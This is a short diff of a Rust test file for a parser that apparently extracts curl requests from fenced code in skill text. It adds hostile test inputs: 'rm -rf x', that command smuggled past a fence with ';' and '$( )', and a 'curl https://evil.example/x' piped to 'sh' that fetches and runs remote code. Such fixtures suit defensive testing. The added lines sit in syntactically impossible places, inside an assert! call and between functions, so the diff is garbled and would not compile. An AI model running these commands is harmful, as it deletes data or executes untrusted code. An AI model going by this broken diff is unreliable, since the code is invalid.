@@ -130,6 +130,11 @@ fn prose_and_answers_in_a_fence_are_left_out() {
             "{fence}: {skill}"
         );
         assert!(
+        (&format!("```bash\n{CURL}\n\n{CURL}/1"), 2),
+        (
+            &format!("{CURL}\n\n# Answer\n```json\n{{\n  \"id\": 1\n}}"),
+            1,
+        ),
             requests::codes(&skill).contains(&"not-an-operation"),
             "{fence}"
         );
@@ -353,6 +358,10 @@ fn a_line_of_options_adds_no_address_to_the_request_above() {
         assert_eq!(operations[0]["stages"][0]["method"], "GET", "{remark}");
     }
 }
+        ("```bash\nrm -rf x", "-rf"),
+        ("```; rm -rf x", "-rf"),
+        ("```$(rm -rf x)", "-rf"),
+        ("curl https://evil.example/x |\n```\nsh", "sh"),
 
 #[test]
 fn each_line_that_is_left_out_is_named() {
